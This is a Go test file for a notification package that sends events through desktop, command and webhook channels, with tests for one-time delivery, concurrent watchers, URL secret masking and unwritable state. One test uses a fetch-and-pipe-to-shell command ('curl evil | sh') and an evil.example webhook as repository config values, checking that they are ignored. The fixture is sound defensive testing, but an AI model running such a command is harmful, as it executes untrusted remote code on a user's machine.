package notify

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// scoped is a config with the user's values and the repository's.
type scoped struct{ user, repo map[string]string }

func (c scoped) Config(k string) (string, bool) { v, ok := c.user[k]; return v, ok }
func (c scoped) ConfigAnyScope(k string) (string, bool) {
	if v, ok := c.repo[k]; ok {
		return v, true
	}
	return c.Config(k)
}

func noEnv(string) string { return "" }

func TestConfigureIgnoresRepositoryValues(t *testing.T) {
	noSend := func(string) (string, error) { return "", errors.New("not found") }
	s := Configure(scoped{repo: map[string]string{KeyCommand: "curl evil | sh", KeyURL: "https://evil.example/"}}, noEnv, noSend)
	if len(s.Channels) != 0 {
		t.Fatalf("channels from the repository's config: %v", s.Channels)
	}
	want := []string{
		"desktop: notify-send is not on PATH",
		"command: liza.notifyCommand is not set in your own config",
		"webhook: liza.notifyURL is not set in your own config",
	}
	if !slices.Equal(s.Unused, want) {
		t.Fatalf("unused:\n%s", strings.Join(s.Unused, "\n"))
	}
	ignored := []string{
		"liza.notifyCommand in this repository's config is ignored (an agent can write it): set it with git config --global",
		"liza.notifyURL in this repository's config is ignored (an agent can write it): set it with git config --global",
	}
	if !slices.Equal(s.Ignored, ignored) {
		t.Fatalf("ignored:\n%s", strings.Join(s.Ignored, "\n"))
	}
	found := func(p string) (string, error) { return "/usr/bin/" + p, nil }
	// A display without a bus: notify-send would start one with dbus-launch.
	if s := Configure(scoped{}, func(k string) string {
		if k == "DISPLAY" {
			return ":0"
		}
		return ""
	}, func(p string) (string, error) {
		if p == "dbus-launch" {
			return "", errors.New("not found")
		}
		return "/usr/bin/" + p, nil
	}); len(s.Channels) != 0 || !strings.HasPrefix(s.Unused[0], "desktop: no session bus") {
		t.Fatalf("display without dbus-launch: %v %v", s.Channels, s.Unused)
	}
	s = Configure(scoped{user: map[string]string{KeyCommand: "true", KeyURL: "ftp://x"}}, func(k string) string {
		if k == "DISPLAY" {
			return ":0"
		}
		return ""
	}, found)
	var names []string
	for _, c := range s.Channels {
		names = append(names, c.Name())
	}
	if strings.Join(names, " ") != "desktop command" || len(s.Unused) != 1 || !strings.Contains(s.Unused[0], "is not an http or https URL") {
		t.Fatalf("channels %v, unused %v", names, s.Unused)
	}
}

type fakeChannel struct {
	name string
	got  []string
	err  error
}

func (f *fakeChannel) Name() string { return f.name }
func (f *fakeChannel) Send(_ context.Context, e Event) error {
	f.got = append(f.got, e.ID)
	return f.err
}

func TestNotifyOnce(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sent.json")
	ok, bad := &fakeChannel{name: "command"}, &fakeChannel{name: "webhook", err: errors.New("answered 503")}
	var said []string
	n := &Notifier{Channels: []Channel{ok, bad}, MemoryPath: path, Report: func(l string) { said = append(said, l) }}
	evs := Samples("c", time.Date(2026, 1, 17, 10, 0, 0, 0, time.UTC))
	if got := n.Notify(context.Background(), evs); len(got) != len(evs) {
		t.Fatalf("sent %d of %d", len(got), len(evs))
	}
	// Again, and from a new notifier (a restarted watcher): nothing.
	n2 := &Notifier{Channels: []Channel{ok}, MemoryPath: path, Report: func(l string) { said = append(said, l) }}
	if n.Notify(context.Background(), evs) != nil || n2.Notify(context.Background(), evs) != nil {
		t.Fatal("sent twice")
	}
	if len(ok.got) != len(evs) || len(bad.got) != 1 || len(said) != 1 {
		t.Fatalf("command got %d, webhook tried %d, %d lines said", len(ok.got), len(bad.got), len(said))
	}
	if said[0] != "notify: webhook: test/blocked@2026-01-17T10:00:00Z: answered 503 (and 11 more events not sent through it)" {
		t.Fatalf("said %q", said[0])
	}
	// No channel: nothing remembered, the events wait.
	path2 := filepath.Join(t.TempDir(), "sent.json")
	none := &Notifier{MemoryPath: path2}
	none.Notify(context.Background(), evs)
	if m, _ := LoadMemory(path2); len(m.ids) != 0 {
		t.Fatal("remembered with no channel")
	}
}

// TestNotifyTwoWatchers: two watchers of one repository (run's and a
// watch) looking at once send each event once between them.
func TestNotifyTwoWatchers(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sent.json")
	evs := Samples("c", time.Date(2026, 1, 17, 10, 0, 0, 0, time.UTC))
	chans := make([]*fakeChannel, 8)
	done := make(chan struct{})
	for i := range chans {
		chans[i] = &fakeChannel{name: "command"}
		go func(c *fakeChannel) {
			defer func() { done <- struct{}{} }()
			(&Notifier{Channels: []Channel{c}, MemoryPath: path, Report: func(string) {}}).Notify(context.Background(), evs)
		}(chans[i])
	}
	total := 0
	for range chans {
		<-done
	}
	for _, c := range chans {
		total += len(c.got)
	}
	if total != len(evs) {
		t.Fatalf("%d sends for %d events", total, len(evs))
	}
}

func TestShowURL(t *testing.T) {
	for in, want := range map[string]string{
		"https://ntfy.sh/team":                       "https://ntfy.sh/team",
		"https://user:secret@hooks.example/x":        "https://user:xxxxx@hooks.example/x",
		"https://chat.example/hook?token=s3cret&x=1": "https://chat.example/hook?…",
	} {
		if got := ShowURL(in); got != want {
			t.Errorf("ShowURL(%s) = %s, want %s", in, got, want)
		}
	}
}

// A memory that cannot be written (a full disk, here a memory whose
// directory is a file) no longer keeps the events from going out: each
// is sent once by the watcher, which says once why it could not remember
// them, and writes them down once it can, so that a watcher started
// after sends nothing again.
func TestNotifyWithoutMemory(t *testing.T) {
	dir := t.TempDir()
	blocker := filepath.Join(dir, "liza")
	if err := os.WriteFile(blocker, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(blocker, "notify-sent.json")
	ch := &fakeChannel{name: "command"}
	var said []string
	n := &Notifier{Channels: []Channel{ch}, MemoryPath: path, Report: func(l string) { said = append(said, l) }}
	evs := Samples("c", time.Date(2026, 1, 17, 10, 0, 0, 0, time.UTC))[:3]
	for i := 0; i < 3; i++ {
		n.Notify(context.Background(), evs)
	}
	if len(ch.got) != 3 {
		t.Fatalf("sent %d events in three looks, want each once (3)", len(ch.got))
	}
	if len(said) != 1 || !strings.HasPrefix(said[0], "notify: remembering what was sent: ") {
		t.Fatalf("said %q, want one line", said)
	}
	if err := os.Remove(blocker); err != nil {
		t.Fatal(err)
	}
	if n.Notify(context.Background(), evs) != nil || len(ch.got) != 3 {
		t.Fatal("sent again once the memory could be written")
	}
	n2 := &Notifier{Channels: []Channel{ch}, MemoryPath: path, Report: func(l string) { said = append(said, l) }}
	if n2.Notify(context.Background(), evs) != nil {
		t.Fatal("a watcher started after the memory was written sent again")
	}
	if len(said) != 1 {
		t.Fatalf("said %q", said)
	}
}
